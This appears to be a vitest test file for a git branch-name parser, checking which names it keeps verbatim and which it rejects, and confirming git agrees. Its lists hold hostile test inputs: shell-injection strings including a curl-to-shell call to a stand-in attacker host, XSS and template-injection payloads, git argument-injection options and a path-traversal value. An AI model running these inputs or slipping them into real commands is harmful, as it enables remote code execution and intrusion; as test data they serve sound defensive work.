import { spawnSync } from 'node:child_process'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { Branch } from './branch.ts'
import { codeOf } from './rule.ts'

const accepted = [
  'main',
  'main;id',
  'main$(id)',
  'main`id`',
  'main$' + '{IFS}id',
  'main|id',
  'main&&id',
  'main<x',
  'main>x',
  "main'id",
  'main"id',
  'main#id',
  'main%0aid',
  '<script>alert(1)</script>',
  '"><img/src=x/onerror=alert(1)>',
  "{{constructor.constructor('return(1)')()}}",
  'feat/#123',
  'fix(scope)!',
  'ümlaut/日本語',
  'rtl\u202egnp.exe',
  'refs/heads/main',
  'main$(curl$' + '{IFS}attacker.test|sh)',
  '@',
  'a@b',
  'a/@',
  'a/-b',
  'x'.repeat(255),
]

test.each(accepted)('the branch %s is kept as it is', (text) => {
  expect(Branch.parse(text)).toBe(text)
})

const refused = [
  '--upload-pack=touch$' + '{IFS}$CANARY',
  '-oProxyCommand=touch $CANARY',
  '--exec=sh',
  'main branch',
  'a..b',
  '.hidden',
  'a/.hidden',
  'main:id',
  'main?x',
  'main*x',
  'main[x',
  'main\\id',
  'main~1',
  'main^',
  'main\0x',
  'main\nid',
  'main\rid',
  'main\tid',
  'main\x7f',
  'main\u001b[2J',
  '../../etc/passwd',
  '/abs',
  'end/',
  'a//b',
  'end.',
  'end.lock',
  'a.lock/b',
  '@{-1}',
  'main@{u}',
  'HEAD',
  '\ud800',
]

test.each(refused)('%j is no branch', (text) => {
  expect(Branch.safeParse(text).error?.issues.map(codeOf)).toEqual(['invalid_branch'])
})

test('a branch is needed, and has at most 255 bytes', () => {
  expect(Branch.safeParse('').error?.issues.map(codeOf)).toEqual(['required'])
  expect(Branch.safeParse('ü'.repeat(128)).error?.issues.map(codeOf)).toEqual(['too_long'])
})

test('git takes each of the accepted branches', () => {
  expect(refusedByGit(accepted)).toEqual([])
})

test('git takes every branch that we take', () => {
  const piece = fc.oneof(
    fc.constantFrom('.', '/', '@', '{', '-', '.lock', 'HEAD', '..', ' ', '~', 'a', '[', '\u0085'),
    fc.string({ unit: 'binary', maxLength: 4 }),
  )
  const text = fc.array(piece, { minLength: 1, maxLength: 6 }).map((pieces) => pieces.join(''))
  const taken = fc.sample(text, { numRuns: 2000, seed: 20_260_131 }).filter((text) => Branch.safeParse(text).success)
  expect(taken.length).toBeGreaterThan(100)
  expect(refusedByGit(taken.slice(0, 200))).toEqual([])
})

/** A small shell starts git for each of them: starting it from here takes many times as long. */
function refusedByGit(branches: readonly string[]): string[] {
  const script = 'for name; do git check-ref-format --branch "$name" >/dev/null 2>&1 || printf "%s\\0" "$name"; done'
  const { stdout } = spawnSync('sh', ['-c', script, 'sh', ...branches], { encoding: 'utf8' })
  return stdout.split('\0').slice(0, -1)
}
